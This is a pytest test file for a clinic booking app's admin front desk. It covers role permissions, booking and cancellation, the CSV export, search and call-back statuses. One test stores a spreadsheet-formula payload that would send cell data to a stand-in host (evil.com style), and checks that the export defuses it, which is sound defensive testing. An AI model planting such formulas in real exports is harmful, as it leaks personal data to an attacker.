"""The front desk in the admin: who may do what, booking, moving and cancelling for a
patient, the status actions, the CSV export, warnings, search and the at-a-glance counts."""

import csv
import datetime as dt
import io
import uuid

import pytest
from bs4 import BeautifulSoup
from django.test import Client
from django.urls import reverse

from audit.models import AuditEntry
from booking import services
from booking.models import CallbackRequest, Consultation
from mindscape import roles
from tests.booking.conftest import at
from tests.factories import PATIENT, ConsultationTypeFactory, LocationFactory, book
from tests.signin import verified_login

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("frozen")]

CHANGELIST = reverse("admin:booking_consultation_changelist")
BOOK = reverse("admin:booking_consultation_book")
EXPORT = reverse("admin:booking_consultation_export")
CALLBACKS = reverse("admin:booking_callbackrequest_changelist")


def change_url(consultation) -> str:
    return reverse("admin:booking_consultation_change", args=[consultation.pk])


def move_url(consultation) -> str:
    return reverse("admin:booking_consultation_move", args=[consultation.pk])


def cancel_url(consultation) -> str:
    return reverse("admin:booking_consultation_cancel", args=[consultation.pk])


def soup(response) -> BeautifulSoup:
    return BeautifulSoup(response.content, "html.parser")


def text(node) -> str:
    return " ".join(node.get_text(" ").split()) if node is not None else ""


def errors(response) -> str:
    return " ".join(text(e) for e in soup(response).select(".errorlist"))


def messages_of(response) -> list[tuple[str, str]]:
    """The messages shown on the page (follow redirects to see them): (level, text)."""
    return [(li["class"][0], text(li)) for li in soup(response).select("ul.messagelist li")]


def after(client, response) -> list[tuple[str, str]]:
    """The messages shown once a POST's redirect is followed."""
    assert response.status_code == 302, errors(response)
    return messages_of(client.get(response["Location"]))


def snapshot():
    """Everything a front-desk page could change."""
    return (
        list(Consultation.objects.order_by("pk").values()),
        list(CallbackRequest.objects.order_by("pk").values()),
        list(AuditEntry.objects.order_by("pk").values_list("pk", flat=True)),
    )


def new_callback(**details) -> CallbackRequest:
    return services.callback_request_create(
        details={**PATIENT, **details},
        location=None,
        preferred_days=[1],
        preferred_times=["morning"],
    )


def booking_form(location, consultation_type, day, hour, minute=0, override=False, **fields):
    data = {
        "location": location.pk,
        "consultation_type": consultation_type.pk,
        "date": f"2026-12-{day:02d}",
        "time": f"{hour:02d}:{minute:02d}",
        "first_name": "Robin",
        "last_name": "Okafor",
        "email": "robin.okafor@example.org",
        "phone": "(207) 555-0188",
        "contact_method": "text",
        "topic": "anxiety",
        "message": "Prefers to be texted first.",
        "consent": "on",
        "idempotency_key": str(uuid.uuid4()),
        **fields,
    }
    if override:
        data["override_schedule"] = "on"
    return data


def time_form(day, hour, minute=0, override=False):
    data = {"date": f"2026-12-{day:02d}", "time": f"{hour:02d}:{minute:02d}"}
    if override:
        data["override_schedule"] = "on"
    return data


@pytest.fixture
def desk(staff_client):
    return staff_client(roles.FRONT_DESK)


@pytest.fixture
def booked(location, phone_call):
    return book(location, phone_call, at(3, 10))


# --- Who may do what ----------------------------------------------------------------------

PAGES = ["changelist", "change", "book", "move", "cancel", "export", "callbacks", "callback"]
ALLOWED = {
    roles.ADMINISTRATOR: set(PAGES),
    roles.FRONT_DESK: set(PAGES),
    roles.CLINICIAN: {"changelist", "change", "callbacks", "callback"},
    roles.CONTENT_EDITOR: set(),
    roles.MEDICAL_REVIEWER: set(),
}


def page_url(page, consultation, callback) -> str:
    return {
        "changelist": CHANGELIST,
        "change": change_url(consultation),
        "book": BOOK,
        "move": move_url(consultation),
        "cancel": cancel_url(consultation),
        "export": EXPORT,
        "callbacks": CALLBACKS,
        "callback": reverse("admin:booking_callbackrequest_change", args=[callback.pk]),
    }[page]


# ("target", not "page": a parameter named "page" would stand in for Playwright's fixture.)
@pytest.mark.parametrize("target", PAGES)
@pytest.mark.parametrize("role", roles.ROLES)
def test_each_role_sees_only_its_pages(staff_client, booked, role, target):
    callback = new_callback()
    response = staff_client(role).get(page_url(target, booked, callback))
    assert response.status_code == (200 if target in ALLOWED[role] else 403)
    assert "no-store" in response["Cache-Control"]


def test_a_clinician_sees_the_record_read_only(staff_client, booked):
    response = staff_client(roles.CLINICIAN).get(change_url(booked))
    page = soup(response)
    assert page.find("a", href=move_url(booked)) is None
    assert page.find("a", href=cancel_url(booked)) is None
    assert page.find("input", {"name": "first_name"}) is None
    assert page.find("input", {"name": "_save"}) is None
    listing = soup(staff_client(roles.CLINICIAN).get(CHANGELIST))
    assert listing.find("a", href=BOOK) is None
    assert not listing.find_all("a", href=lambda href: href and href.startswith(EXPORT))
    assert listing.find("select", {"name": "action"}) is None


def test_the_front_desk_finds_book_move_cancel_and_export_links(desk, booked):
    page = soup(desk.get(change_url(booked)))
    assert page.find("a", href=move_url(booked)) is not None
    assert page.find("a", href=cancel_url(booked)) is not None
    listing = soup(desk.get(CHANGELIST))
    assert listing.find("a", href=BOOK) is not None
    actions = [o["value"] for o in listing.select("select[name=action] option") if o["value"]]
    assert set(actions) == {"complete", "mark_no_show", "acknowledge_crisis"}  # no delete


def test_a_clinician_cannot_run_actions_by_posting_them(staff_client, booked, frozen):
    frozen.move_to(at(3, 10, 5))
    before = snapshot()
    response = staff_client(roles.CLINICIAN).post(
        CHANGELIST, {"action": "complete", "_selected_action": [booked.pk]}
    )
    assert response.status_code == 200  # the list again: the action is not on offer
    assert snapshot() == before


@pytest.mark.parametrize("role", [roles.CLINICIAN, roles.CONTENT_EDITOR])
def test_posting_to_book_move_or_cancel_without_permission_changes_nothing(
    staff_client, booked, location, phone_call, role
):
    client = staff_client(role)
    before = snapshot()
    assert client.post(BOOK, booking_form(location, phone_call, 4, 10)).status_code == 403
    assert client.post(move_url(booked), time_form(4, 10)).status_code == 403
    assert client.post(cancel_url(booked), {"reason": "No reason"}).status_code == 403
    assert snapshot() == before


# --- No change on GET -----------------------------------------------------------------------


def test_opening_the_book_move_and_cancel_pages_changes_nothing(desk, booked):
    new_callback()
    before = snapshot()
    for url in (BOOK, move_url(booked), cancel_url(booked), change_url(booked), CHANGELIST):
        assert desk.get(url).status_code == 200
    for url in (move_url(booked), cancel_url(booked)):
        # Query strings are not form submissions either.
        desk.get(url, {"date": "2026-12-04", "time": "10:00", "reason": "GET"})
    assert snapshot() == before


def test_the_move_page_starts_from_the_current_local_time(desk, booked):
    page = soup(desk.get(move_url(booked)))
    assert page.find("input", {"name": "date"})["value"] == "2026-12-03"
    assert page.find("input", {"name": "time"})["value"].startswith("10:00")
    assert "Thursday, December 3, 2026 at 10:00 AM Eastern Time (New York)" in text(
        page.find(id="content-main")
    )


def test_forms_refuse_a_post_without_the_csrf_token(staff_user, booked):
    client = Client(enforce_csrf_checks=True)
    verified_login(client, staff_user(roles.FRONT_DESK))
    before = snapshot()
    assert client.post(cancel_url(booked), {"reason": "Forged"}).status_code == 403
    assert snapshot() == before


# --- Staff book for a patient ---------------------------------------------------------------


def test_staff_book_inside_the_schedule(desk, location, phone_call):
    response = desk.post(BOOK, booking_form(location, phone_call, 2, 14))
    consultation = Consultation.objects.get()
    assert response.status_code == 302, errors(response)
    assert response["Location"] == change_url(consultation)
    assert ("success", "Consultation booked.") in after(desk, response)
    assert consultation.starts_at == at(2, 14)  # the wall time at the location
    assert consultation.status == Consultation.Status.BOOKED
    assert consultation.booked_by_staff
    assert consultation.phone == "+12075550188"
    assert consultation.contact_method == "text"
    assert consultation.consent_version == "2026-11-v1"
    entry = AuditEntry.objects.get(action="consultation_booked")
    assert entry.actor == desk.user
    assert entry.detail == {"by": "staff", "schedule_override": False}


def test_a_replayed_booking_post_makes_one_booking(desk, location, phone_call):
    data = booking_form(location, phone_call, 2, 14)
    first = desk.post(BOOK, data)
    again = desk.post(BOOK, data)
    assert first.status_code == again.status_code == 302
    assert first["Location"] == again["Location"]
    assert Consultation.objects.count() == 1


@pytest.mark.parametrize(
    ("day", "hour", "why"),
    [
        (2, 19, "Outside opening hours"),
        (1, 9, "Inside the notice period"),
        (2, 7, "Outside opening hours"),
    ],
)
def test_outside_the_schedule_staff_must_override(desk, location, phone_call, day, hour, why):
    data = booking_form(location, phone_call, day, hour)
    response = desk.post(BOOK, data)
    assert response.status_code == 200
    # Staff wording (not the patient's "choose one from the list"), and the nearest times.
    assert errors(response) == (
        f"{why} — tick ‘Allow a time outside opening hours’ to book it anyway, "
        "or pick one of the nearest free times."
    )
    nearest = soup(response).select(".free-day.nearest button[name=pick]")
    assert nearest and len(nearest) <= 3
    assert not Consultation.objects.exists()
    assert not AuditEntry.objects.filter(action="consultation_booked").exists()
    # Everything typed is kept.
    page = soup(response)
    assert "Everything typed has been kept" in text(page.find(class_="errornote"))
    for name in ("first_name", "last_name", "email", "phone", "date", "time", "idempotency_key"):
        assert page.find("input", {"name": name})["value"] == data[name], name
    assert text(page.find("textarea", {"name": "message"})) == data["message"]
    assert page.find("input", {"name": "consent"}).has_attr("checked")
    assert page.find("input", {"name": "contact_method", "value": "text"}).has_attr("checked")
    for name in ("location", "consultation_type", "topic"):
        selected = page.find("select", {"name": name}).find("option", selected=True)
        assert selected["value"] == str(data[name]), name

    response = desk.post(BOOK, {**data, "override_schedule": "on"})
    assert response.status_code == 302, errors(response)
    consultation = Consultation.objects.get()
    assert consultation.starts_at == at(day, hour)
    entry = AuditEntry.objects.get(action="consultation_booked")
    assert entry.detail == {"by": "staff", "schedule_override": True}
    assert entry.actor == desk.user


def test_an_override_never_beats_capacity(desk, location, phone_call):
    book(location, phone_call, at(2, 11))
    response = desk.post(BOOK, booking_form(location, phone_call, 2, 11, override=True))
    assert response.status_code == 200
    message = errors(response)
    assert "just been taken" in message
    assert (
        "Nearest free times: Wednesday, December 2, 2026 at 9:30 AM Eastern Time (New York); "
        "Wednesday, December 2, 2026 at 10:00 AM Eastern Time (New York); "
        "Wednesday, December 2, 2026 at 12:00 PM Eastern Time (New York)."
    ) in message
    assert Consultation.objects.count() == 1
    # Nor the buffer after another booking: 11:35 starts inside 11:00–11:40.
    response = desk.post(BOOK, booking_form(location, phone_call, 2, 11, 35, override=True))
    assert "just been taken" in errors(response)
    assert Consultation.objects.count() == 1


def test_the_book_form_validates_the_patient_details(desk, location, phone_call):
    elsewhere = LocationFactory()
    data = booking_form(elsewhere, phone_call, 2, 14, phone="555", consent="", email="not an email")
    response = desk.post(BOOK, data)
    assert response.status_code == 200
    message = errors(response)
    assert "Enter a phone number we can call or text" in message
    assert "Enter an email address in the correct format, like name@example.com" in message
    assert "Agree to be contacted" in message
    response = desk.post(BOOK, booking_form(elsewhere, phone_call, 2, 14))
    assert "not offered at this location" in errors(response)
    assert not Consultation.objects.exists()


# --- Move and cancel ------------------------------------------------------------------------


def test_staff_move_a_booking(desk, booked):
    response = desk.post(move_url(booked), time_form(3, 14))
    assert response.status_code == 302, errors(response)
    assert response["Location"] == change_url(booked)
    assert ("success", "Consultation moved.") in after(desk, response)
    booked.refresh_from_db()
    assert booked.starts_at == at(3, 14)
    assert booked.calendar_sequence == 1
    entry = AuditEntry.objects.get(action="consultation_rescheduled")
    assert entry.detail == {"by": "staff", "schedule_override": False}
    assert entry.actor == desk.user


def test_moving_to_a_taken_time_keeps_the_old_one_and_offers_others(
    desk, booked, location, phone_call
):
    book(location, phone_call, at(3, 14), details={"email": "other@example.org"})
    response = desk.post(move_url(booked), time_form(3, 14, override=True))
    assert response.status_code == 200
    assert "Nearest free times:" in errors(response)
    booked.refresh_from_db()
    assert booked.starts_at == at(3, 10)
    assert not AuditEntry.objects.filter(action="consultation_rescheduled").exists()


def test_moving_outside_opening_hours_needs_the_override(desk, booked):
    response = desk.post(move_url(booked), time_form(3, 18))
    assert errors(response).startswith("Outside opening hours — tick")
    booked.refresh_from_db()
    assert booked.starts_at == at(3, 10)
    response = desk.post(move_url(booked), time_form(3, 18, override=True))
    assert response.status_code == 302, errors(response)
    booked.refresh_from_db()
    assert booked.starts_at == at(3, 18)
    entry = AuditEntry.objects.get(action="consultation_rescheduled")
    assert entry.detail == {"by": "staff", "schedule_override": True}


def test_cancelling_needs_a_reason_and_stores_it(desk, booked):
    for reason in ("", "   "):
        response = desk.post(cancel_url(booked), {"reason": reason})
        assert response.status_code == 200
        assert errors(response)
        booked.refresh_from_db()
        assert booked.status == Consultation.Status.BOOKED
    response = desk.post(cancel_url(booked), {"reason": "Patient called to cancel"})
    assert response.status_code == 302, errors(response)
    assert ("success", "Consultation cancelled.") in after(desk, response)
    booked.refresh_from_db()
    assert booked.status == Consultation.Status.CANCELLED
    assert booked.cancelled_by == Consultation.CancelledBy.STAFF
    assert booked.cancel_reason == "Patient called to cancel"
    entry = AuditEntry.objects.get(action="consultation_cancelled")
    assert entry.detail == {"by": "staff"}
    assert entry.actor == desk.user
    # Once cancelled, it cannot be cancelled or moved again.
    response = desk.post(cancel_url(booked), {"reason": "Again"})
    assert "cancelled, not booked" in errors(response)
    response = desk.post(move_url(booked), time_form(4, 10))
    assert "cancelled, not booked" in errors(response)
    assert AuditEntry.objects.filter(action="consultation_cancelled").count() == 1


def test_the_record_shows_its_history_and_no_longer_offers_move_or_cancel(desk, booked):
    desk.post(move_url(booked), time_form(3, 14))
    desk.post(cancel_url(booked), {"reason": "Patient called to cancel"})
    page = soup(desk.get(change_url(booked)))
    history = [text(li) for li in page.select("ul.audit-trail li")]
    assert len(history) == 3
    assert history[0].endswith(f"A patient booked consultation {booked.reference}")
    who = f"{desk.user.username} (front desk)"
    assert history[1].endswith(f"{who} moved consultation {booked.reference}")
    assert history[2].endswith(f"{who} cancelled consultation {booked.reference}")
    content = text(page.find(id="content-main"))
    assert "Patient called to cancel" in content
    assert page.find("a", href=move_url(booked)) is None
    assert page.find("a", href=cancel_url(booked)) is None


def test_editing_the_record_cannot_change_its_status_and_is_audited(desk, location):
    video = ConsultationTypeFactory(name="Video call", kind="video", locations=[location])
    consultation = book(location, video, at(3, 10))
    data = {
        **{k: PATIENT[k] for k in ("first_name", "last_name", "email", "phone")},
        "contact_method": "email",
        "topic": "depression",
        "video_link": "https://meet.example.org/abc",
        "status": "completed",
        "starts_at": "2026-12-24 10:00",
    }
    response = desk.post(change_url(consultation), data)
    assert response.status_code == 302, errors(response)
    consultation.refresh_from_db()
    assert consultation.video_link == "https://meet.example.org/abc"
    assert consultation.contact_method == "email"
    assert consultation.status == Consultation.Status.BOOKED
    assert consultation.starts_at == at(3, 10)
    entry = AuditEntry.objects.get(action="changed")
    assert entry.detail == {"fields": ["contact_method", "video_link"]}


def test_a_phone_edited_in_the_admin_is_checked_and_stored_in_international_form(desk, booked):
    data = {**{k: PATIENT[k] for k in ("first_name", "last_name", "email", "contact_method")}}
    data["topic"] = "depression"
    response = desk.post(change_url(booked), {**data, "phone": "555"})
    assert response.status_code == 200
    assert "Enter a phone number we can call or text" in errors(response)
    response = desk.post(change_url(booked), {**data, "phone": "(207) 555-0199"})
    assert response.status_code == 302, errors(response)
    booked.refresh_from_db()
    assert booked.phone == "+12075550199"


# --- Actions: complete, no-show -------------------------------------------------------------


@pytest.mark.parametrize(
    ("action", "status", "audited", "done"),
    [
        ("complete", "completed", "consultation_completed", "1 marked completed."),
        ("mark_no_show", "no_show", "consultation_no_show", "1 marked no-show."),
    ],
)
def test_closing_actions_wait_for_the_start_time(
    desk, booked, frozen, action, status, audited, done
):
    post = {"action": action, "_selected_action": [booked.pk], "confirmed": "yes"}
    response = desk.post(CHANGELIST, post)
    assert after(desk, response) == [
        ("warning", f"{booked}: This consultation has not started yet.")
    ]
    booked.refresh_from_db()
    assert booked.status == Consultation.Status.BOOKED
    assert not AuditEntry.objects.filter(action=audited).exists()

    frozen.move_to(at(3, 10, 5))
    response = desk.post(CHANGELIST, post)
    assert after(desk, response) == [("success", done)]
    booked.refresh_from_db()
    assert booked.status == status
    entry = AuditEntry.objects.get(action=audited)
    assert entry.actor == desk.user
    assert entry.object_pk == str(booked.pk)

    # Only from booked: a second run is refused and changes nothing.
    response = desk.post(
        CHANGELIST, {"action": "complete", "_selected_action": [booked.pk], "confirmed": "yes"}
    )
    assert after(desk, response)[0][0] == "warning"
    booked.refresh_from_db()
    assert booked.status == status


@pytest.mark.parametrize(
    ("action", "question", "button"),
    [
        ("complete", "Mark these consultations as completed?", "Yes, mark as completed"),
        ("mark_no_show", "Mark these consultations as no-shows?", "Yes, mark as no-show"),
    ],
)
def test_closing_actions_first_ask_listing_the_consultations(
    desk, location, phone_call, frozen, action, question, button
):
    first = book(location, phone_call, at(1, 10))
    second = book(location, phone_call, at(1, 11), details={"email": "b@example.org"})
    frozen.move_to(at(1, 12))
    before = snapshot()
    response = desk.post(CHANGELIST, {"action": action, "_selected_action": [first.pk, second.pk]})
    assert response.status_code == 200
    assert snapshot() == before  # asked, nothing done
    page = soup(response)
    assert text(page.find("h1")) == question
    listed = [text(li) for li in page.select(".confirm-list li")]
    assert len(listed) == 2
    assert first.reference in listed[0] and "Avery Quinn" in listed[0]
    assert second.reference in listed[1]
    form = page.select_one("#content-main form")
    assert form.find("input", {"type": "submit"})["value"] == button
    data = {i["name"]: i.get("value", "") for i in form.select("input[type=hidden]")}
    data["_selected_action"] = [i["value"] for i in form.select("input[name=_selected_action]")]
    response = desk.post(CHANGELIST, data)
    assert after(desk, response)[-1][0] == "success"
    assert {c.status for c in Consultation.objects.all()} != {Consultation.Status.BOOKED}


def test_an_action_over_several_reports_each_refusal(desk, location, phone_call, frozen):
    started = book(location, phone_call, at(1, 10))
    later = book(location, phone_call, at(2, 10), details={"email": "b@example.org"})
    frozen.move_to(at(1, 10, 30))
    response = desk.post(
        CHANGELIST,
        {"action": "complete", "_selected_action": [started.pk, later.pk], "confirmed": "yes"},
    )
    assert after(desk, response) == [
        ("warning", f"{later}: This consultation has not started yet."),
        ("success", "1 marked completed."),
    ]
    assert Consultation.objects.get(pk=started.pk).status == "completed"
    assert Consultation.objects.get(pk=later.pk).status == "booked"


def test_acknowledging_crisis_wording_from_the_list(desk, location, phone_call):
    flagged = book(location, phone_call, at(2, 10), details={"crisis_flag": True})
    page = soup(desk.get(CHANGELIST))
    assert "1 with crisis wording waiting" in text(page.find(class_="at-a-glance"))
    change = desk.get(change_url(flagged))
    assert any("crisis wording" in m for _, m in messages_of(change))
    response = desk.post(
        CHANGELIST, {"action": "acknowledge_crisis", "_selected_action": [flagged.pk]}
    )
    assert after(desk, response) == [("success", "1 marked as seen.")]
    flagged.refresh_from_db()
    assert flagged.crisis_seen_by == desk.user
    assert AuditEntry.objects.filter(action="crisis_flag_acknowledged").count() == 1


# --- CSV export -----------------------------------------------------------------------------

HEADER = [
    "reference",
    "when (location time)",
    "first name",
    "last name",
    "email",
    "phone",
    "preferred contact",
    "type",
    "location",
    "topic",
    "status",
    "created",
]


def rows(response) -> list[dict]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="consultations.csv"'
    reader = csv.reader(io.StringIO(response.content.decode()))
    header = next(reader)
    assert header == HEADER
    return [dict(zip(header, row, strict=True)) for row in reader]


@pytest.fixture
def several(location, phone_call):
    other = LocationFactory(name="Bangor")
    phone_call.locations.add(other)
    first = book(location, phone_call, at(2, 10))
    second = book(
        other, phone_call, at(3, 10), details={"email": "sam@example.org", "first_name": "Sam"}
    )
    gone = book(location, phone_call, at(4, 10), details={"email": "gone@example.org"})
    services.consultation_cancel(consultation=gone, reason="")
    return first, second, gone, other


def test_the_export_holds_the_whole_list_with_its_columns(desk, several, location):
    first, second, gone, _ = several
    exported = rows(desk.get(EXPORT))
    assert [r["reference"] for r in exported] == [first.reference, second.reference, gone.reference]
    assert exported[0] == {
        "reference": first.reference,
        "when (location time)": "2026-12-02 10:00 EST",
        "first name": "Avery",
        "last name": "Quinn",
        "email": "avery.quinn@example.org",
        # A leading + is a formula character too: the number is defused like any other cell.
        "phone": "'+12075550123",
        "preferred contact": "Phone call",
        "type": "Phone call",
        "location": location.name,
        "topic": "Depression",
        "status": "Booked",
        "created": "2026-12-01 08:00",
    }
    assert exported[2]["status"] == "Cancelled"
    entry = AuditEntry.objects.get(action="consultations_exported")
    assert entry.detail == {"rows": 3}
    assert entry.actor == desk.user
    assert "no-store" in desk.get(EXPORT)["Cache-Control"]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("status__exact=booked", [0, 1]),
        ("status__exact=cancelled", [2]),
        ("location__id__exact={other}", [1]),
        ("q=sam%40example.org", [1]),
        ("status__exact=booked&location__id__exact={location}", [0]),
        ("starts_at__gte=2026-12-03+00:00:00-05:00&starts_at__lt=2026-12-04+00:00:00-05:00", [1]),
    ],
)
def test_the_export_follows_the_lists_filters(desk, several, location, query, expected):
    other = several[3]
    query = query.format(other=other.pk, location=location.pk)
    exported = rows(desk.get(f"{EXPORT}?{query}"))
    assert [r["reference"] for r in exported] == [several[i].reference for i in expected]
    entry = AuditEntry.objects.get(action="consultations_exported")
    assert entry.detail == {"rows": len(expected)}


def test_the_lists_export_link_carries_its_filters(desk, several):
    listing = soup(desk.get(CHANGELIST, {"status__exact": "booked"}))
    link = listing.find("a", string="Export this list (CSV)")
    assert link["href"] == f"{EXPORT}?status__exact=booked"
    assert len(rows(desk.get(link["href"]))) == 2


def test_the_export_defuses_spreadsheet_formulas(desk, location, phone_call):
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
    book(
        location,
        phone_call,
        at(2, 10),
        details={"first_name": formula, "last_name": "@SUM(1+1)", "email": "f@example.org"},
    )
    [row] = rows(desk.get(EXPORT))
    assert row["first name"] == "'" + formula
    assert row["last name"] == "'@SUM(1+1)"
    assert row["email"] == "f@example.org"


@pytest.mark.parametrize("role", [roles.CLINICIAN, roles.CONTENT_EDITOR, roles.MEDICAL_REVIEWER])
def test_only_roles_allowed_to_export_can_export(staff_client, several, role):
    response = staff_client(role).get(EXPORT)
    assert response.status_code == 403
    assert b"Avery" not in response.content
    assert not AuditEntry.objects.filter(action="consultations_exported").exists()


def test_a_bad_filter_value_in_the_export_is_not_a_server_error(desk, several):
    response = desk.get(EXPORT, {"location__id__exact": "not-a-number"})
    assert response.status_code == 302
    assert response["Location"] == f"{CHANGELIST}?e=1"  # as the list itself answers
    assert not AuditEntry.objects.filter(action="consultations_exported").exists()


def test_a_lookup_the_list_does_not_offer_is_refused_by_list_and_export(desk, several):
    query = {"crisis_seen_by__username": "someone"}  # no filter of the list reads it
    assert desk.get(CHANGELIST, query).status_code == 400
    assert desk.get(EXPORT, query).status_code == 400
    assert not AuditEntry.objects.filter(action="consultations_exported").exists()


# --- Warnings and search --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("details", "warned"),
    [
        ({"phone": "+12075550999"}, True),  # same email
        ({"email": "AVERY.Quinn@Example.org", "phone": "+12075550999"}, True),  # any case
        ({"email": "someone@example.org"}, True),  # same phone
        ({"email": "someone@example.org", "phone": "+12075550999"}, False),  # someone else
    ],
)
def test_the_record_warns_when_the_same_person_has_another_booking(
    desk, booked, location, phone_call, details, warned
):
    book(location, phone_call, at(4, 10), details=details)
    response = desk.get(change_url(booked))
    expected = (
        "warning",
        "This person already has 1 other upcoming booking (same email or phone).",
    )
    assert (expected in messages_of(response)) is warned


def test_a_cancelled_or_past_booking_is_not_another_active_booking(
    desk, booked, location, phone_call, frozen
):
    earlier = book(location, phone_call, at(1, 14))
    later = book(location, phone_call, at(5, 10))
    services.consultation_cancel(consultation=later)
    frozen.move_to(at(2, 9))  # the 1 December booking is over
    assert Consultation.objects.get(pk=earlier.pk).status == Consultation.Status.BOOKED
    response = desk.get(change_url(booked))
    assert not [m for level, m in messages_of(response) if level == "warning"]


@pytest.mark.parametrize(
    "typed",
    [
        "(207) 555-0123",
        "207-555-0123",
        "+1 207 555 0123",
        "2075550123",
        "+12075550123",
        "555-0123",
        "5550123",
        "Quinn",
        "avery.quinn@",
    ],
)
def test_searching_finds_a_phone_however_it_is_typed(desk, location, phone_call, typed):
    mine = book(location, phone_call, at(2, 10))
    book(
        location,
        phone_call,
        at(3, 10),
        details={
            "first_name": "Sam",
            "last_name": "Lee",
            "email": "s@example.org",
            "phone": "+12075550999",
        },
    )
    response = desk.get(CHANGELIST, {"q": typed})
    assert response.status_code == 200
    assert [c.pk for c in response.context["cl"].result_list] == [mine.pk]


def test_the_list_shows_what_the_front_desk_needs(desk, location, phone_call):
    consultation = book(location, phone_call, at(2, 10))
    page = soup(desk.get(CHANGELIST))
    headers = [text(th) for th in page.select("#result_list thead th")]
    assert headers[1:] == [
        "When",
        "Name",
        "Type",
        "Status",
        "Reference",
        "Crisis",
        "Location",
    ]
    row = page.select_one("#result_list tbody tr")
    assert "Wed Dec 2, 10:00 AM EST" in text(row)
    assert consultation.reference in text(row)
    # No crisis wording: nothing in its cell (no ✗, no "unknown" icon).
    assert text(row.select_one("td.field-crisis")) == ""
    assert not row.select("td.field-crisis img")


# --- Call-backs -----------------------------------------------------------------------------


def run_callback_action(client, callback, action):
    response = client.post(CALLBACKS, {"action": action, "_selected_action": [callback.pk]})
    shown = after(client, response)
    callback.refresh_from_db()
    return shown


def test_call_back_statuses_follow_their_lifecycle(desk):
    callback = new_callback()
    assert run_callback_action(desk, callback, "mark_scheduled") == [
        ("warning", f"{callback}: A call-back that is new cannot become scheduled.")
    ]
    assert callback.status == "new"
    assert not AuditEntry.objects.filter(action="callback_status_changed").exists()

    assert run_callback_action(desk, callback, "mark_contacted") == [
        ("success", "1 marked contacted.")
    ]
    assert callback.status == "contacted"
    assert run_callback_action(desk, callback, "mark_contacted")[0][0] == "warning"
    assert run_callback_action(desk, callback, "mark_scheduled") == [
        ("success", "1 marked scheduled.")
    ]
    assert callback.status == "scheduled"
    assert run_callback_action(desk, callback, "mark_closed") == [
        ("warning", f"{callback}: A call-back that is scheduled cannot become closed.")
    ]
    assert callback.status == "scheduled"
    entries = AuditEntry.objects.filter(action="callback_status_changed").order_by("at", "pk")
    assert [e.detail for e in entries] == [
        {"from": "new", "to": "contacted"},
        {"from": "contacted", "to": "scheduled"},
    ]
    assert {e.actor for e in entries} == {desk.user}
    page = soup(desk.get(reverse("admin:booking_callbackrequest_change", args=[callback.pk])))
    assert len(page.select("ul.audit-trail li")) == 3  # requested, contacted, scheduled


@pytest.mark.parametrize("start", ["new", "contacted"])
def test_a_call_back_can_be_closed_when_new_or_contacted(desk, start):
    callback = new_callback()
    if start == "contacted":
        run_callback_action(desk, callback, "mark_contacted")
    assert run_callback_action(desk, callback, "mark_closed") == [("success", "1 marked closed.")]
    assert callback.status == "closed"
    assert run_callback_action(desk, callback, "mark_contacted")[0][0] == "warning"
    assert callback.status == "closed"


def test_a_clinician_cannot_change_a_call_back(staff_client):
    callback = new_callback()
    before = snapshot()
    staff_client(roles.CLINICIAN).post(
        CALLBACKS, {"action": "mark_contacted", "_selected_action": [callback.pk]}
    )
    assert snapshot() == before


# --- At a glance ----------------------------------------------------------------------------


def test_the_list_shows_today_and_this_week_at_a_glance(desk, location, phone_call):
    # Now is Tuesday 1 December, 08:00; the week runs to Sunday 6 December.
    book(location, phone_call, at(1, 10))
    book(location, phone_call, at(3, 10), details={"email": "b@example.org"})
    book(location, phone_call, at(6, 16), details={"email": "c@example.org"})
    book(location, phone_call, at(7, 10), details={"email": "d@example.org"})  # next week
    gone = book(location, phone_call, at(1, 14), details={"email": "e@example.org"})
    services.consultation_cancel(consultation=gone, by=desk.user, reason="Called")
    glance = soup(desk.get(CHANGELIST)).find(class_="at-a-glance")
    links = {text(a): a["href"] for a in glance.find_all("a")}
    assert set(links) == {"Today: 1 booked", "This week: 3 booked"}
    # Each count links to the list it counts.
    for label, count in (("Today: 1 booked", 1), ("This week: 3 booked", 3)):
        response = desk.get(CHANGELIST + links[label])
        assert response.status_code == 200
        assert response.context["cl"].result_count == count, label


# --- The free-time picker -------------------------------------------------------------------


def test_the_book_page_lists_the_patients_free_times_soonest_first(desk, location, phone_call):
    book(location, phone_call, at(1, 10))  # taken: not offered
    page = soup(desk.get(BOOK))
    days = page.select(".free-times .free-day")
    assert days, "no free times shown"
    assert text(days[0].find("h3")) == "Tuesday, December 1"
    first_day = [text(b) for b in days[0].select("button[name=pick]")]
    # As the patient sees them: 10:00 is booked, two hours' notice from 08:00.
    from booking import schedule

    offered = schedule.open_slots(location, phone_call)
    assert first_day[0] == f"{offered[0].start.astimezone(location.zone):%-I:%M %p}"
    assert "10:00 AM" not in first_day
    # The location and type are chosen already (one click to see the times).
    assert page.find("select", {"name": "location"}).find("option", selected=True)["value"] == (
        str(location.pk)
    )


def test_picking_a_free_time_fills_the_form_and_books_nothing(desk, location, phone_call):
    data = booking_form(location, phone_call, 1, 0)
    data.pop("time")
    data["date"] = ""
    data["pick"] = at(2, 14).isoformat()
    before = snapshot()
    response = desk.post(BOOK, data)
    assert response.status_code == 200
    assert snapshot() == before
    page = soup(response)
    assert not page.select(".errorlist")  # a pick is not a submission
    assert page.find("input", {"name": "date"})["value"] == "2026-12-02"
    assert page.find("input", {"name": "time"})["value"] == "14:00"
    assert page.find("input", {"name": "first_name"})["value"] == "Robin"  # kept
    assert "Picked: Wednesday, December 2, 2026 at 2:00 PM Eastern Time (New York)" in text(
        page.select_one(".picked")
    )
    # Then "Book" books that time.
    form = {**data, "date": "2026-12-02", "time": "14:00"}
    form.pop("pick")
    response = desk.post(BOOK, form)
    assert response.status_code == 302, errors(response)
    assert Consultation.objects.get().starts_at == at(2, 14)


def test_the_picker_starts_at_a_chosen_date(desk, location, phone_call):
    data = booking_form(location, phone_call, 7, 0, show_times="1")
    page = soup(desk.post(BOOK, data))
    assert text(page.select_one(".free-day h3")) == "Monday, December 7"
    assert not page.select(".errorlist")
    assert not Consultation.objects.exists()


def test_the_staff_booking_page_speaks_to_staff(desk, location, phone_call):
    page = soup(desk.get(BOOK))
    labels = text(page.find(id="content-main"))
    assert "How should we contact the patient?" in labels
    assert "What would the patient like to talk about?" in labels
    assert "contact you" not in labels and "would you like" not in labels


def test_the_move_page_lists_free_times_excluding_nothing_but_its_own(desk, booked):
